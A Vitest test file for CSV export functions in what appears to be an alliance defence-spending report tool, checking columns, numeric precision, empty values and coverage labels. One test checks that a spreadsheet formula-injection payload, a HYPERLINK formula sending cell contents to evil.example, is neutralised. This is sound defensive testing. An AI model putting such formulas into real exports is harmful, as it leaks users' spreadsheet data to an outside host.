import { describe, it, expect } from 'vitest';
import { ALLIANCE_CSV_COLUMNS, CSV_COLUMNS, renderAllianceCsv, renderCsv } from '../../../shared/report/index.ts';
import { parseCsv } from '../../helpers/csv-parse.ts';
import { makeDataset } from '../../helpers/dataset.ts';
import { HOSTILE, hostileDataset } from '../../helpers/hostile.ts';

const read = (bytes: Buffer) => {
  const [header, ...rows] = parseCsv(bytes.toString('utf8'));
  return rows.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i]!])));
};

describe('renderCsv', () => {
  it('writes a header and one row per ally and year, without a byte-order mark', () => {
    // Prepare / Act
    const bytes = renderCsv(makeDataset());
    const [header, ...rows] = parseCsv(bytes.toString('utf8'));

    // Assess: ALB 3 years, DEU 2, ISL none, USA 2
    expect(bytes.subarray(0, 4).toString('utf8')).toBe('iso3');
    expect(header).toEqual(CSV_COLUMNS.map((c) => c.name));
    expect(rows.map((r) => `${r[0]} ${r[2]}`)).toEqual(['ALB 2024', 'ALB 2025', 'ALB 2026', 'DEU 2025', 'DEU 2026', 'USA 2025', 'USA 2026']);
    expect(rows.every((r) => r.length === header!.length)).toBe(true);
  });

  it('parses back to the same numbers at full precision', () => {
    // Prepare
    const dataset = makeDataset();

    // Act
    const rows = read(renderCsv(dataset));

    // Assess
    for (const row of rows) {
      const y = dataset.allies.find((a) => a.iso3 === row.iso3)!.years.find((v) => v.year === Number(row.year))!;
      expect([row.core_pct, row.security_pct, row.combined_pct, row.gdp_usd].map(Number)).toEqual([y.corePct, y.securityPct, y.combinedPct, y.usd.gdp]);
      expect(row.core_status).toBe(y.tracks.core.status);
    }
    // ALB 2024: security 2345.67 of GDP 2000000 = 0.1172835%
    expect(Number(rows[0]!.security_pct)).toBeCloseTo(0.1172835, 12);
  });

  it('leaves missing values empty and spells booleans', () => {
    // Prepare / Act
    const [alb2024] = read(renderCsv(makeDataset()));

    // Assess: 2024 is before the baseline, so there is no path; the breakdown has no infrastructure
    expect([alb2024!.core_path, alb2024!.core_infrastructure, alb2024!.two_percent, alb2024!.illustrative]).toEqual(['', '', 'false', 'false']);
  });

  it('neutralises formula-looking text and quotes fields with commas and quotes', () => {
    // Prepare / Act
    const text = renderCsv(hostileDataset()).toString('utf8');
    const [alb2024] = read(Buffer.from(text));

    // Assess
    expect(alb2024!.file).toBe(`'${HOSTILE.formulaFile}`);
    expect(alb2024!.submission_id).toBe(`'${HOSTILE.atSubmission}`);
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`);
    expect(text).not.toMatch(/(^|,)=HYPERLINK/m);
  });
});

describe('renderAllianceCsv', () => {
  it('writes every year, group and basis, marks the basis the reports show, and names each sum by its coverage', () => {
    // Prepare: the fixture's current basis lacks ALB and DEU after 2024; 2024 rates cover everyone
    const dataset = makeDataset();

    // Act
    const rows = read(renderAllianceCsv(dataset));

    // Assess: 3 years × 2 groups × 2 bases
    expect(rows).toHaveLength(12);
    const at = (year: string, group: string, basis: string) => rows.find((r) => r.year === year && r.group === group && r.basis === basis)!;
    expect(at('2026', 'all_allies', 'current')).toMatchObject({
      presented: 'false',
      label: "Sum over 1 of 3 allies (USA), not the Alliance's figure",
      allies_included: '1',
      allies_expected: '3',
      coverage_rule_met: 'false',
      allies: 'USA',
      left_out: 'ALB: no exchange rate in 2026; DEU: no exchange rate in 2026',
    });
    expect(at('2026', 'all_allies', 'constant')).toMatchObject({ presented: 'true', label: 'Alliance', rate_year: '2024', coverage_rule_met: 'true' });
    expect(at('2024', 'europe_canada', 'current')).toMatchObject({ presented: 'true', label: 'Europe and Canada', rate_year: '' });
    expect(Number(at('2026', 'all_allies', 'constant').core_pct)).toBe(dataset.alliance.years.find((y) => y.year === 2026)?.all.constant.corePct);
    expect(rows.filter((r) => r.presented === 'true').every((r) => r.coverage_rule_met === 'true')).toBe(true);
  });

  it('uses the columns it declares, in order', () => {
    // Act
    const [header] = parseCsv(renderAllianceCsv(makeDataset()).toString('utf8'));

    // Assess
    expect(header).toEqual(ALLIANCE_CSV_COLUMNS.map((c) => c.name));
  });
});
